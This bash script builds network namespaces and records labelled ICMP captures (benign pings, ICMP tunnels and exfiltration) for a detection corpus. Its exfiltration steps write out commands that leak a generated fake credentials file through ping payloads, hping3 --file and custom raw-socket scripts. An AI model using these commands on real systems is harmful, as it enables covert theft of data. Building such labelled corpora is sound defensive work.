#!/bin/bash
# Regenerates the labelled ICMP captures of this folder with real programs.
#
#   sudo bash tests/traffic/make.sh            # every capture, from scratch
#   sudo bash tests/traffic/make.sh STEP...    # only these steps (each makes one or more files)
#   sudo bash tests/traffic/make.sh --list     # the steps
#
# Three network namespaces on this machine, joined by veth pairs, stand for the hosts:
#
#   corp-a (client) veth0 ==== veth0 corp-r (router) veth1 ==== veth0 corp-b (server)
#
# corp-r forwards between the two links and silently drops a third prefix (a host that never
# answers). Every capture is taken on corp-a's veth0 by tcpdump, with fresh namespaces (empty
# neighbour caches), offloads off and MTU 1500. Each capture declares the echo conversations it
# holds in labels.tsv (host pairs: initiator, responder, label); check.py compares them with what
# tshark finds in the files.
#
# A full run first removes the folder's .pcap files and labels.tsv; a run of some steps replaces
# their files, labels and make.log sections only. Namespaces and /etc/netns entries are removed
# at the end, also after an error or an interrupt.
#
# Environment: CORPUS_OUT (default: this folder) receives the .pcap files, labels.tsv and make.log;
# CORPUS_SET=eval with CORPUS_EVAL_STEPS=FILE runs the steps FILE defines (its eval_captures array)
# instead of this folder's; CORPUS_NS (default corp) prefixes the namespace names.

set -uo pipefail

if [ "$(id -u)" != 0 ]; then
    echo "make.sh: the captures need root (network namespaces, raw sockets, tcpdump)." >&2
    echo "make.sh: nothing was changed; run it again with sudo." >&2
    exit 1
fi

HERE=${CORPUS_HERE:-$(cd "$(dirname "$0")" && pwd)}
# bash reads a script as it runs: run from a copy, so that editing this file cannot upset a run
if [ -z "${CORPUS_HERE:-}" ]; then
    copy=$(mktemp /tmp/corp-make.XXXXXX)
    cp "$0" "$copy"
    CORPUS_HERE=$HERE bash "$copy" "$@"; rc=$?
    rm -f "$copy"; exit $rc
fi
OUT=${CORPUS_OUT:-$HERE}
SET=${CORPUS_SET:-corpus}
PY=/usr/bin/python3
TOOLS=$HERE/tools

# command -> Debian package
declare -A PKG=(
    [tcpdump]=tcpdump [tshark]=tshark [editcap]=tshark [ethtool]=ethtool [tc]=iproute2
    [ping]=iputils-ping [tracepath]=iputils-tracepath [busybox]=busybox [fping]=fping
    [traceroute]=traceroute [mtr]=mtr-tiny [nmap]=nmap [nping]=nmap [hping3]=hping3
    [ptunnel]=ptunnel [ptunnel-ng]=ptunnel-ng [icmptx]=icmptx [icmpush]=icmpush
    [oping]=oping [ndisc6]=ndisc6 [iptables]=iptables [rdisc6]=ndisc6 [curl]=curl [xxd]=xxd [perl]=perl
)
missing=()
for c in "${!PKG[@]}"; do command -v "$c" >/dev/null || missing+=("${PKG[$c]}"); done
$PY -c 'import scapy, icmplib' 2>/dev/null || missing+=(python3-scapy python3-icmplib)
if [ ${#missing[@]} -gt 0 ]; then
    echo "make.sh: installing missing packages: ${missing[*]}"
    apt-get install -y "${missing[@]}" >/dev/null || { echo "make.sh: apt-get failed" >&2; exit 1; }
fi

WORK=$(mktemp -d /tmp/corp-work.XXXXXX)
LOG=$WORK/make.log
LABELS=$WORK/labels.tsv
: >"$LABELS"
NP=${CORPUS_NS:-corp}   # namespace prefix: CORPUS_NS=corp-x runs beside a default run
NSS=("$NP-a" "$NP-r" "$NP-b")
CAP_PID=
CUR=

log() { echo "$*" | tee -a "$LOG"; }

ns_down() {
    local ns pid
    for ns in "${NSS[@]}"; do
        ip netns list | grep -qw "^$ns" || continue
        for pid in $(ip netns pids "$ns" 2>/dev/null); do kill "$pid" 2>/dev/null; done
    done
    sleep 0.3
    for ns in "${NSS[@]}"; do
        ip netns list | grep -qw "^$ns" || continue
        for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
        ip netns del "$ns" 2>/dev/null
        rm -rf "/etc/netns/$ns"
    done
}

finish() {
    [ -n "$CAP_PID" ] && kill -TERM "$CAP_PID" 2>/dev/null
    ns_down
    rm -rf "$WORK"
}
trap finish EXIT
trap 'exit 130' INT TERM

A() { ip netns exec "$NP-a" "$@"; }
R() { ip netns exec "$NP-r" "$@"; }
B() { ip netns exec "$NP-b" "$@"; }

# Logs a command with the host it runs on, then runs it there.
on() { local h=$1; shift; echo "  [$h] $*" >>"$LOG"; "$h" "$@" 2>&1 | sed -u 's/^/      /' >>"$LOG"; }
bg() { local h=$1; shift; echo "  [$h] $* &" >>"$LOG"; "$h" "$@" >>"$WORK/bg.log" 2>&1 & }

# net_up P1 P2 P3 X: client link P1.0/24 (a = P1.2, r = P1.1), server link P2.0/24 (r = P2.1,
# b = P2.2 and P2.3..P2.9), P3.0/24 dropped by r; IPv6 X:1::/64, X:2::/64 and X:9::/64 alike.
# Link-local addresses are fixed (fe80::a, fe80::1 on the client link; fe80::2, fe80::b on the
# server link) so that the labels can name them.
net_up() {
    local p1=$1 p2=$2 p3=$3 x=$4 ns i
    ns_down
    A4=$p1.2 R4A=$p1.1 R4B=$p2.1 B4=$p2.2 HOLE4=$p3.7 NET4B=$p2
    A6=$x:1::2 R6A=$x:1::1 R6B=$x:2::1 B6=$x:2::2 HOLE6=$x:9::7 X6=$x
    for ns in "${NSS[@]}"; do
        # name lookups stay on the host itself: no query leaves for the machine's resolver
        mkdir -p "/etc/netns/$ns"; echo "nameserver 127.0.0.1" >"/etc/netns/$ns/resolv.conf"
        ip netns add "$ns"
        ip netns exec "$ns" ip link set lo up
        ip netns exec "$ns" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.default.addr_gen_mode=1
    done
    ip link add "${NP}A0" type veth peer name "${NP}R0"
    ip link add "${NP}R1" type veth peer name "${NP}B0"
    ip link set "${NP}A0" netns "$NP-a" name veth0 address 02:c0:00:00:0a:01
    ip link set "${NP}R0" netns "$NP-r" name veth0 address 02:c0:00:00:01:01
    ip link set "${NP}R1" netns "$NP-r" name veth1 address 02:c0:00:00:01:02
    ip link set "${NP}B0" netns "$NP-b" name veth0 address 02:c0:00:00:0b:01
    A ip addr add "$A4/24" dev veth0; A ip addr add "$A6/64" dev veth0 nodad
    A ip addr add fe80::a/64 dev veth0 nodad
    R ip addr add "$R4A/24" dev veth0; R ip addr add "$R6A/64" dev veth0 nodad
    R ip addr add fe80::1/64 dev veth0 nodad
    R ip addr add "$R4B/24" dev veth1; R ip addr add "$R6B/64" dev veth1 nodad
    R ip addr add fe80::2/64 dev veth1 nodad
    B ip addr add "$B4/24" dev veth0; B ip addr add "$B6/64" dev veth0 nodad
    B ip addr add fe80::b/64 dev veth0 nodad
    for i in 3 4 5 6 7 8 9; do B ip addr add "$p2.$i/24" dev veth0; done
    for ns in "${NSS[@]}"; do
        for i in veth0 veth1; do
            ip netns exec "$ns" ip link show "$i" >/dev/null 2>&1 || continue
            ip netns exec "$ns" ethtool -K "$i" tx off rx off tso off gso off gro off >/dev/null 2>&1
            ip netns exec "$ns" ip link set "$i" mtu 1500 up
        done
    done
    R sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
    A ip route add default via "$R4A"; A ip -6 route add default via "$R6A"
    B ip route add default via "$R4B"; B ip -6 route add default via "$R6B"
    R ip route add blackhole "$p3.0/24"; R ip -6 route add blackhole "$x:9::/64"
    sleep 1
}

label() { printf '%s\t%s\t%s\t%s\t%s\t%s\n' "$CUR.pcap" "$1" "$2" "$3" "$4" "$5" >>"$LABELS"; }

# cap_start NAME: tcpdump on corp-a's veth0 until cap_stop.
cap_start() {
    CUR=$1
    log "== $CUR"
    rm -f "$WORK/$CUR.pcap" "$WORK/tcpdump.err"
    ip netns exec "$NP-a" tcpdump -U -i veth0 -s 0 -w "$WORK/$CUR.pcap" 'icmp or icmp6' 2>"$WORK/tcpdump.err" &
    CAP_PID=$!
    local i
    for i in $(seq 50); do grep -q 'listening on' "$WORK/tcpdump.err" 2>/dev/null && break; sleep 0.1; done
    echo "  [A] tcpdump -U -i veth0 -s 0 -w $CUR.pcap 'icmp or icmp6'" >>"$LOG"
}

# cap_stop [MAXFRAMES]: ends the capture, keeps the first MAXFRAMES frames, files it.
cap_stop() {
    sleep "${SETTLE:-1}"
    kill -TERM "$CAP_PID"; wait "$CAP_PID" 2>/dev/null; CAP_PID=
    local f=$WORK/$CUR.pcap n
    n=$(capinfos -Mc "$f" 2>/dev/null | awk '/Number of packets/ {print $NF}')
    if [ -n "${1:-}" ] && [ "$n" -gt "$1" ]; then
        editcap -F pcap -r "$f" "$f.cut" "1-$1" && mv "$f.cut" "$f"
        log "  captured $n frames, kept the first $1"
        n=$1
    fi
    mv "$f" "$OUT/$CUR.pcap"
    chown --reference="$OUT" "$OUT/$CUR.pcap"   # tcpdump wrote it as its own user
    log "  $CUR.pcap: $n frames, $(stat -c %s "$OUT/$CUR.pcap") bytes"
    ns_down
}

sha() { sha256sum "$1" | cut -c1-16; }
verify_same() {  # verify_same WHAT EXPECTED ACTUAL
    if cmp -s "$2" "$3"; then log "  verified: $1 arrived intact ($(stat -c %s "$3") bytes, sha256 $(sha "$3"))"
    else log "  FAILED: $1 differs ($(stat -c %s "$3" 2>/dev/null) of $(stat -c %s "$2") bytes)"; fi
}

verify_recover() {  # verify_recover MODE NAME FILE: the capture carries FILE as MODE lays it out
    local r
    if r=$($PY "$TOOLS/recover.py" "$1" "$OUT/$2.pcap" "$3" 2>&1); then log "  verified: $r"
    else log "  FAILED: $r"; fi
}

# ---------------------------------------------------------------------------- data
mkdata() {
    D=$WORK/data; mkdir -p "$D" "$WORK/www"
    cp /usr/share/common-licenses/GPL-3 "$D/gpl.txt"
    gzip -9n <"$D/gpl.txt" >"$D/gpl.txt.gz"
    $PY - "$D" <<'EOF'
import random, sys
d = sys.argv[1]
r = random.Random(20240601)
for n in (2000, 16000, 60000, 150000):
    open(f"{d}/rand{n}.bin", "wb").write(r.randbytes(n))
lines = ["# quarterly access review - internal", "host,user,password,role"]
for i in range(1, 9):
    lines.append(f"srv{i:02d}.corp.example,svc_backup{i},S3cr3t-{r.randrange(10**6):06d}!,admin")
lines.append("vpn psk: 9f2c1e7a-4b1d-4c83-9d11-c0ffee{:06d}".format(r.randrange(10**6)))
open(f"{d}/secret.txt", "w").write("\n".join(lines) + "\n")
EOF
    cp "$D"/rand*.bin "$D/gpl.txt" "$WORK/www/"
}

http_server() { rm -f "$WORK/got"; bg B $PY -m http.server 8000 --bind :: --directory "$WORK/www"; sleep 1; }

# ---------------------------------------------------------------------------- benign
ping4_variant() {  # ping4_variant NAME NOTE PING-ARGS...
    local name=$1 note=$2; shift 2
    net_up 10.31.1 10.31.2 10.31.9 fd31
    cap_start "$name"
    on A ping "$@" "$B4"
    label ipv4 "$A4" "$B4" benign "$note"
    cap_stop 400
}

ben_ping4() {
    ping4_variant ben-ping4-default "iputils ping, default 56-byte payload" -c 10 -i 0.2
    ping4_variant ben-ping4-s0 "iputils ping -s 0: empty payload" -c 5 -i 0.2 -s 0
    ping4_variant ben-ping4-s8 "iputils ping -s 8: room for the time only in part" -c 5 -i 0.2 -s 8
    ping4_variant ben-ping4-s15 "iputils ping -s 15: counter only, no timestamp" -c 5 -i 0.2 -s 15
    ping4_variant ben-ping4-s100 "iputils ping -s 100" -c 5 -i 0.2 -s 100
    ping4_variant ben-ping4-s1400 "iputils ping -s 1400" -c 5 -i 0.2 -s 1400
    ping4_variant ben-ping4-s65000 "iputils ping -s 65000: 45 fragments per message" -c 2 -i 0.5 -s 65000
    ping4_variant ben-ping4-p1 "iputils ping -p ff (1-byte pattern)" -c 5 -i 0.2 -p ff
    ping4_variant ben-ping4-p4 "iputils ping -p 55aa00ff (4-byte pattern) -s 120" -c 5 -i 0.2 -p 55aa00ff -s 120
    ping4_variant ben-ping4-p16 "iputils ping -p with a 16-byte pattern" -c 5 -i 0.2 -p 000102030405060708090a0b0c0d0e0f
    ping4_variant ben-ping4-flood "iputils ping -f -c 150 (flood)" -f -c 150
}

ping6_variant() {
    local name=$1 note=$2; shift 2
    net_up 192.168.60 192.168.61 192.168.69 fd60
    cap_start "$name"
    on A ping -6 "$@" "$B6"
    label ipv6 "$A6" "$B6" benign "$note"
    cap_stop 400
}

ben_ping6() {
    ping6_variant ben-ping6-default "iputils ping -6, default payload" -c 10 -i 0.2
    ping6_variant ben-ping6-s0 "iputils ping -6 -s 0" -c 5 -i 0.2 -s 0
    ping6_variant ben-ping6-s15 "iputils ping -6 -s 15" -c 5 -i 0.2 -s 15
    ping6_variant ben-ping6-s1400 "iputils ping -6 -s 1400" -c 5 -i 0.2 -s 1400
    ping6_variant ben-ping6-p4 "iputils ping -6 -p 0badcafe" -c 5 -i 0.2 -p 0badcafe
    ping6_variant ben-ping6-p16 "iputils ping -6 with a 16-byte pattern" -c 5 -i 0.2 -p 6162636465666768696a6b6c6d6e6f70
    ping6_variant ben-ping6-s65000 "iputils ping -6 -s 65000: fragments" -c 2 -i 0.5 -s 65000
    ping6_variant ben-ping6-flood "iputils ping -6 -f -c 100" -f -c 100
}

ben_nohost() {
    net_up 10.44.0 10.44.1 10.44.7 fd44
    cap_start ben-ping-nohost
    on A ping -c 8 -i 0.25 "$HOLE4"
    on A ping -6 -c 8 -i 0.25 "$HOLE6"
    label ipv4 "$A4" "$HOLE4" benign "no answer: the router drops the prefix silently"
    label ipv6 "$A6" "$HOLE6" benign "no answer: the router drops the prefix silently"
    cap_stop
}

ben_lossy() {
    # This kernel has no netem qdisc: the router drops and duplicates with netfilter instead.
    net_up 172.20.5 172.20.6 172.20.9 fd20
    cap_start ben-ping-lossy
    on R iptables -A FORWARD -d "$B4" -p icmp -m statistic --mode random --probability 0.3 -j DROP
    on R ip6tables -A FORWARD -d "$B6" -p ipv6-icmp -m statistic --mode random --probability 0.3 -j DROP
    on A ping -c 30 -i 0.1 "$B4"
    on A ping -6 -c 30 -i 0.1 "$B6"
    label ipv4 "$A4" "$B4" benign "the router drops 30% of the requests: unanswered requests"
    label ipv6 "$A6" "$B6" benign "the router drops 30% of the requests: unanswered requests"
    cap_stop
    net_up 172.20.5 172.20.6 172.20.9 fd20
    cap_start ben-ping-duplicates
    on R iptables -t mangle -A POSTROUTING -d "$A4" -p icmp -m statistic --mode random --probability 0.2 -j TEE --gateway "$A4"
    on R ip6tables -t mangle -A POSTROUTING -d "$A6" -p ipv6-icmp --icmpv6-type echo-reply -m statistic --mode random --probability 0.2 -j TEE --gateway "$A6"
    on A ping -c 30 -i 0.05 "$B4"
    on A ping -6 -c 30 -i 0.05 "$B6"
    label ipv4 "$A4" "$B4" benign "the router duplicates 20% of the replies"
    label ipv6 "$A6" "$B6" benign "the router duplicates 20% of the replies"
    cap_stop
}

ben_loop() {
    net_up 10.8.1 10.8.2 10.8.9 fd08
    cap_start ben-ping-c1-loop
    echo "  [A] for i in 1..12: ping -c 1 -W 1 B; ping -6 -c 1 -W 1 B6; sleep 0.3" >>"$LOG"
    for i in $(seq 12); do A ping -c 1 -W 1 "$B4" >/dev/null; A ping -6 -c 1 -W 1 "$B6" >/dev/null; sleep 0.3; done
    label ipv4 "$A4" "$B4" benign "a monitoring loop: ping -c 1, a new identifier each time"
    label ipv6 "$A6" "$B6" benign "a monitoring loop: ping -6 -c 1, a new identifier each time"
    cap_stop
}

ben_sweep() {
    net_up 10.77.0 10.77.1 10.77.9 fd77
    cap_start ben-ping-sweep
    echo "  [A] for i in 1..24: ping -c 1 -W 1 10.77.1.\$i &  (in parallel); wait" >>"$LOG"
    local pids=()
    for i in $(seq 24); do A ping -c 1 -W 1 "10.77.1.$i" >/dev/null & pids+=($!); done
    wait "${pids[@]}"
    sleep 3   # the router's host-unreachable errors for the absent addresses
    label ipv4 "$A4" "$R4B" benign "sweep: the router answers"
    for i in $(seq 2 9); do label ipv4 "$A4" "10.77.1.$i" benign "sweep: answers"; done
    for i in $(seq 10 24); do label ipv4 "$A4" "10.77.1.$i" benign "sweep: absent, the router sends host unreachable"; done
    cap_stop
}

ben_busybox() {
    net_up 10.51.3 10.51.4 10.51.9 fd51
    cap_start ben-busybox-ping
    on A busybox ping -c 5 "$B4"
    on A busybox ping -c 5 -s 200 "$R4B"
    on A busybox ping -6 -c 5 "$B6"
    label ipv4 "$A4" "$B4" benign "busybox ping, default"
    label ipv4 "$A4" "$R4B" benign "busybox ping -s 200"
    label ipv6 "$A6" "$B6" benign "busybox ping -6"
    cap_stop
}

ben_fping() {
    net_up 10.66.0 10.66.1 10.66.9 fd66
    cap_start ben-fping
    on A fping -C 4 -p 200 "$B4" 10.66.1.3 "$HOLE4"
    on A fping -b 200 -c 3 -p 200 "$R4A"
    on A fping -6 -c 3 -p 200 "$B6"
    label ipv4 "$A4" "$B4" benign "fping -C: one identifier over all targets"
    label ipv4 "$A4" 10.66.1.3 benign "fping -C"
    label ipv4 "$A4" "$HOLE4" benign "fping -C: never answers"
    label ipv4 "$A4" "$R4A" benign "fping -b 200"
    label ipv6 "$A6" "$B6" benign "fping -6"
    cap_stop
    net_up 10.66.0 10.66.1 10.66.9 fd66
    cap_start ben-fping-sweep
    on A fping -a -q -g 10.66.1.0/28 -r 0 -t 300
    sleep 3
    for i in $(seq 1 14); do label ipv4 "$A4" "10.66.1.$i" benign "fping -g sweep"; done
    cap_stop
}

ben_trace() {
    net_up 10.90.1 10.90.2 10.90.9 fd90
    cap_start ben-traceroute
    on A traceroute -I -n "$B4"
    on A traceroute -n "$B4"
    on A traceroute -6 -I -n "$B6"
    on A tracepath -n "$B4"
    label ipv4 "$A4" "$B4" benign "traceroute -I: echo requests with rising TTL; time exceeded from the router"
    label ipv6 "$A6" "$B6" benign "traceroute -6 -I"
    cap_stop
    net_up 10.90.1 10.90.2 10.90.9 fd90
    cap_start ben-mtr
    on A mtr --report -n -c 4 "$B4"
    on A mtr -6 --report -n -c 4 "$B6"
    label ipv4 "$A4" "$B4" benign "mtr --report, ICMP probes"
    label ipv6 "$A6" "$B6" benign "mtr -6 --report"
    cap_stop
}

ben_nmap() {
    net_up 172.30.0 172.30.1 172.30.9 fd30
    cap_start ben-nmap-nping
    on A nmap -n -sn -PE 172.30.1.0/28
    on A nping --icmp -c 4 --delay 200ms "$B4"
    on A nmap -n -sn -PP "$B4"
    on A nmap -n -sn -PM "$B4"
    for i in $(seq 0 15); do label ipv4 "$A4" "172.30.1.$i" benign "nmap -sn -PE sweep: empty echo requests"; done
    label ipv4 "$A4" "$B4" benign "nmap -PE, nping --icmp, nmap -PP (timestamp) and -PM (address mask)"
    cap_stop
}

ben_hping() {
    net_up 10.12.0 10.12.1 10.12.9 fd12
    cap_start ben-hping3
    on A hping3 --icmp -c 4 -i u200000 "$B4"
    on A hping3 --icmp -d 100 -c 4 -i u200000 "$B4"
    on A hping3 --icmp --icmp-ts -c 3 -i u200000 "$R4A"
    label ipv4 "$A4" "$B4" benign "hping3 --icmp, empty and -d 100 ('X' filler)"
    label ipv4 "$A4" "$R4A" benign "hping3 --icmp-ts: timestamp requests"
    cap_stop
}

ben_icmp6() {
    net_up 10.61.0 10.61.1 10.61.9 fd61
    cap_start ben-icmp6-nd
    on A ndisc6 -n "$R6A" veth0
    on A rdisc6 -1 -w 500 veth0
    on A ping -6 -c 3 -i 0.3 ff02::1%veth0
    on A ping -6 -c 3 -i 0.3 fe80::1%veth0
    on A ping -6 -c 2 -i 0.3 "$X6:5::1"
    label ipv6 fe80::a ff02::1 benign "ping to all nodes (link-local source): the replies come from the router's fe80::1"
    label ipv6 fe80::a fe80::1 benign "replies to the all-nodes ping, then a link-local ping to the router"
    label ipv6 "$A6" "$X6:5::1" benign "no route at the router: destination unreachable"
    cap_stop
}

ben_others() {
    net_up 10.5.5 10.5.6 10.5.9 fd05
    cap_start ben-other-pingers
    on A oping -c 4 -i 0.2 "$B4"
    on A $PY -c "import icmplib,sys; print(icmplib.ping(sys.argv[1], count=4, interval=0.2, privileged=True))" "$B4"
    on A perl -MNet::Ping -e '$p = Net::Ping->new("icmp"); for (1..4) { print $p->ping($ARGV[0]) ? "up\n" : "down\n"; select(undef,undef,undef,0.2) }' "$R4A"
    on A icmpush -n -tstamp -to 1 "$B4"
    on A icmpush -n -mask -to 1 "$B4"
    label ipv4 "$A4" "$B4" benign "oping (liboping), icmplib, icmpush timestamp and address-mask requests"
    label ipv4 "$A4" "$R4A" benign "perl Net::Ping (icmp)"
    cap_stop
}

ben_inetutils() {
    local dir=$WORK/inetutils
    mkdir -p "$dir"
    if ! (cd "$dir" && apt-get download inetutils-ping >/dev/null 2>&1 && dpkg -x inetutils-ping_*.deb x); then
        log "== ben-inetutils-ping: skipped (apt-get download inetutils-ping failed)"; return
    fi
    net_up 10.23.0 10.23.1 10.23.9 fd23
    cap_start ben-inetutils-ping
    on A "$dir/x/bin/ping" -n -c 4 -i 0.2 "$B4"
    on A "$dir/x/bin/ping" -n -c 4 -i 0.2 -s 300 -p 'a5' "$R4A"
    on A "$dir/x/bin/ping6" -n -c 3 -i 1 "$B6"
    label ipv4 "$A4" "$B4" benign "inetutils ping (unpacked, not installed: it replaces iputils' ping)"
    label ipv4 "$A4" "$R4A" benign "inetutils ping -s 300 -p a5"
    label ipv6 "$A6" "$B6" benign "inetutils ping6"
    cap_stop
}

# ---------------------------------------------------------------------------- tunnels
tun_ptunnel() {
    net_up 10.40.1 10.40.2 10.40.9 fd40
    cap_start tun-ptunnel-http
    http_server
    bg B ptunnel -v 1
    sleep 1
    bg A ptunnel -p "$B4" -lp 2222 -da "$B4" -dp 8000 -v 1
    sleep 1
    on A curl -s -o "$WORK/got" http://127.0.0.1:2222/rand60000.bin
    verify_same "rand60000.bin through ptunnel" "$WORK/www/rand60000.bin" "$WORK/got"
    label ipv4 "$A4" "$B4" tunnel "ptunnel 0.72 (magic d5 20 08 80): a 60,000-byte HTTP download"
    cap_stop
    net_up 10.40.1 10.40.2 10.40.9 fd40
    cap_start tun-ptunnel-idle-passwd
    http_server
    bg B ptunnel -x letmein -v 1
    sleep 1
    bg A ptunnel -p "$B4" -lp 2222 -da "$B4" -dp 8000 -x letmein -v 1
    sleep 1
    on A $PY "$TOOLS/idle-client.py" 127.0.0.1 2222 20 /gpl.txt
    label ipv4 "$A4" "$B4" tunnel "ptunnel -x (password challenge): a TCP session idle 20 s, then one small HTTP request"
    cap_stop 300
}

tun_ptunnel_upload() {
    net_up 10.46.1 10.46.2 10.46.9 fd46
    cap_start tun-ptunnel-upload
    rm -f "$WORK/sunk"
    bg B $PY "$TOOLS/tcp-sink.py" 9000 "$WORK/sunk"
    bg B ptunnel -v 1
    sleep 1
    bg A ptunnel -p "$B4" -lp 2223 -da "$B4" -dp 9000 -v 1
    sleep 1
    on A $PY "$TOOLS/tcp-send.py" 127.0.0.1 2223 "$D/gpl.txt.gz"
    sleep 2
    verify_same "gpl.txt.gz uploaded through ptunnel" "$D/gpl.txt.gz" "$WORK/sunk"
    label ipv4 "$A4" "$B4" tunnel "ptunnel 0.72: a 12,124-byte upload; the data travels in requests that the kernel echoes"
    cap_stop
}

tun_ptunnel_ng() {
    net_up 10.41.1 10.41.2 10.41.9 fd41
    cap_start tun-ptunnel-ng-http
    http_server
    bg B ptunnel-ng -r"$B4" -R8000 -v1
    sleep 1
    bg A ptunnel-ng -p"$B4" -l2222 -r"$B4" -R8000 -v1
    sleep 1
    on A curl -s -o "$WORK/got" http://127.0.0.1:2222/rand60000.bin
    verify_same "rand60000.bin through ptunnel-ng" "$WORK/www/rand60000.bin" "$WORK/got"
    label ipv4 "$A4" "$B4" tunnel "ptunnel-ng (magic de ad c0 de): a 60,000-byte HTTP download"
    cap_stop
    net_up 10.41.1 10.41.2 10.41.9 fd41
    cap_start tun-ptunnel-ng-magic-http
    http_server
    bg B ptunnel-ng -r"$B4" -R8000 -m 0x1a2b3c4d -v1
    sleep 1
    bg A ptunnel-ng -p"$B4" -l2222 -r"$B4" -R8000 -m 0x1a2b3c4d -v1
    sleep 1
    on A curl -s -o "$WORK/got" http://127.0.0.1:2222/gpl.txt
    verify_same "gpl.txt through ptunnel-ng --magic" "$WORK/www/gpl.txt" "$WORK/got"
    label ipv4 "$A4" "$B4" tunnel "ptunnel-ng -m 0x1a2b3c4d: a 35,149-byte text download"
    cap_stop
    net_up 10.41.1 10.41.2 10.41.9 fd41
    cap_start tun-ptunnel-ng-idle
    http_server
    bg B ptunnel-ng -r"$B4" -R8000 -v1
    sleep 1
    bg A ptunnel-ng -p"$B4" -l2222 -r"$B4" -R8000 -v1
    sleep 1
    on A $PY "$TOOLS/idle-client.py" 127.0.0.1 2222 20 /gpl.txt
    label ipv4 "$A4" "$B4" tunnel "ptunnel-ng: a TCP session idle 20 s, then one small HTTP request"
    cap_stop 300
}

tun_icmptx() {
    net_up 10.42.1 10.42.2 10.42.9 fd42
    cap_start tun-icmptx-http
    http_server
    bg B icmptx -s "$B4"
    sleep 1
    B ip addr add 10.250.0.1/24 dev tun0; B ip link set tun0 up
    bg A icmptx -c "$B4"
    sleep 1
    A ip addr add 10.250.0.2/24 dev tun0; A ip link set tun0 up
    echo "  [A,B] ip addr add 10.250.0.2/24 (A), 10.250.0.1/24 (B) dev tun0; ip link set tun0 up" >>"$LOG"
    sleep 1
    on A curl -s -m 60 -o "$WORK/got" http://10.250.0.1:8000/rand16000.bin
    verify_same "rand16000.bin through icmptx" "$WORK/www/rand16000.bin" "$WORK/got"
    label ipv4 "$A4" "$B4" tunnel "icmptx: IP packets in echo payloads; a 16,000-byte HTTP download through tun0"
    cap_stop 400
}

tun_mixed() {
    net_up 10.43.1 10.43.2 10.43.9 fd43
    cap_start tun-ptunnel-ng-mixed
    http_server
    bg B ptunnel-ng -r"$B4" -R8000 -v1
    sleep 1
    bg A ptunnel-ng -p"$B4" -l2222 -r"$B4" -R8000 -v1
    bg A ping -c 40 -i 0.25 "$R4A"
    bg A ping -6 -c 40 -i 0.25 "$B6"
    sleep 1
    on A curl -s -o "$WORK/got" http://127.0.0.1:2222/rand16000.bin
    verify_same "rand16000.bin through ptunnel-ng" "$WORK/www/rand16000.bin" "$WORK/got"
    sleep 9
    label ipv4 "$A4" "$B4" tunnel "ptunnel-ng: a 16,000-byte download"
    label ipv4 "$A4" "$R4A" benign "ordinary ping to the router during the tunnel"
    label ipv6 "$A6" "$B6" benign "ordinary ping -6 to the tunnel's proxy host over IPv6, a different address pair"
    cap_stop
}

# ---------------------------------------------------------------------------- exfiltration
exf_hping() {  # exf_hping NAME FILE SIZE COUNT NOTE
    net_up 10.13.7 10.13.8 10.13.9 fd13
    cap_start "$1"
    on A hping3 --icmp --file "$2" -d "$3" -c "$4" -i u50000 "$B4"
    label ipv4 "$A4" "$B4" exfil "$5"
    cap_stop
    verify_recover stream "$1" "$2"
}

exf_hpings() {
    exf_hping exf-hping3-file-d64-text "$D/gpl.txt" 64 60 "hping3 --file: 3,840 bytes of licence text in 64-byte slices"
    exf_hping exf-hping3-file-d512-gzip "$D/gpl.txt.gz" 512 40 "hping3 --file: gzip data in 512-byte slices"
    exf_hping exf-hping3-file-d1400-random "$D/rand60000.bin" 1400 40 "hping3 --file: random bytes in 1400-byte slices"
    exf_hping exf-hping3-file-d24-small "$D/secret.txt" 24 30 "hping3 --file: a small credentials file in 24-byte slices"
}

exf_ping_p() {
    net_up 192.168.150 192.168.151 192.168.159 fd15
    cap_start exf-ping-p-chunks
    echo "  [A] xxd -p -c 16 secret.txt | while read hex; do ping -c 1 -p \$hex $B4; done" >>"$LOG"
    xxd -p -c 16 "$D/secret.txt" | while read -r hex; do A ping -c 1 -W 1 -p "$hex" "$B4" >/dev/null; done
    label ipv4 "$A4" "$B4" exfil "ping -p: a file's 16-byte chunks, one ping process (identifier) per chunk"
    cap_stop
    verify_recover pattern exf-ping-p-chunks "$D/secret.txt"
    net_up 192.168.150 192.168.151 192.168.159 fd15
    cap_start exf-ping6-p-chunks
    echo "  [A] xxd -p -c 16 secret.txt | while read hex; do ping -6 -c 1 -s 32 -p \$hex $B6; done" >>"$LOG"
    xxd -p -c 16 "$D/secret.txt" | while read -r hex; do A ping -6 -c 1 -W 1 -s 32 -p "$hex" "$B6" >/dev/null; done
    label ipv6 "$A6" "$B6" exfil "ping -6 -s 32 -p: 16-byte chunks, one ping process per chunk"
    cap_stop
    verify_recover pattern exf-ping6-p-chunks "$D/secret.txt"
}

exf_scripts() {
    net_up 10.70.3 10.70.4 10.70.9 fd70
    cap_start exf-py-b64-idseq
    on A $PY "$TOOLS/b64-exfil.py" --chunk 32 --delay 0.1 "$B4" "$D/secret.txt"
    label ipv4 "$A4" "$B4" exfil "own python raw-socket script: base64 text, 32 characters per request, identifier 0, 1, 2, ..."
    cap_stop
    verify_recover b64 exf-py-b64-idseq "$D/secret.txt"
    net_up 10.70.3 10.70.4 10.70.9 fd70
    cap_start exf-scapy-gzip
    on A $PY "$TOOLS/scapy-exfil.py" --chunk 48 --delay 0.05 "$B4" "$D/gpl.txt.gz" 
    label ipv4 "$A4" "$B4" exfil "own scapy script: gzip data, 48 bytes per request, one identifier, sequence 1, 2, ..."
    cap_stop
    verify_recover stream exf-scapy-gzip "$D/gpl.txt.gz"
    net_up 10.70.3 10.70.4 10.70.9 fd70
    cap_start exf-py-b64-ipv6
    on A $PY "$TOOLS/b64-exfil.py" -6 --chunk 48 --delay 0.1 "$B6" "$D/secret.txt"
    label ipv6 "$A6" "$B6" exfil "own python raw-socket script over ICMPv6: base64 text, identifier per request"
    cap_stop
    verify_recover b64 exf-py-b64-ipv6 "$D/secret.txt"
}

corpus_captures=(ben_ping4 ben_ping6 ben_nohost ben_lossy ben_loop ben_sweep ben_busybox ben_fping ben_trace
    ben_nmap ben_hping ben_icmp6 ben_others ben_inetutils tun_ptunnel tun_ptunnel_upload tun_ptunnel_ng tun_icmptx tun_mixed
    exf_hpings exf_ping_p exf_scripts)

if [ "$SET" = eval ]; then
    . "${CORPUS_EVAL_STEPS:?CORPUS_EVAL_STEPS names the file of evaluation steps}"
    steps=("${eval_captures[@]}")
else
    steps=("${corpus_captures[@]}")
fi

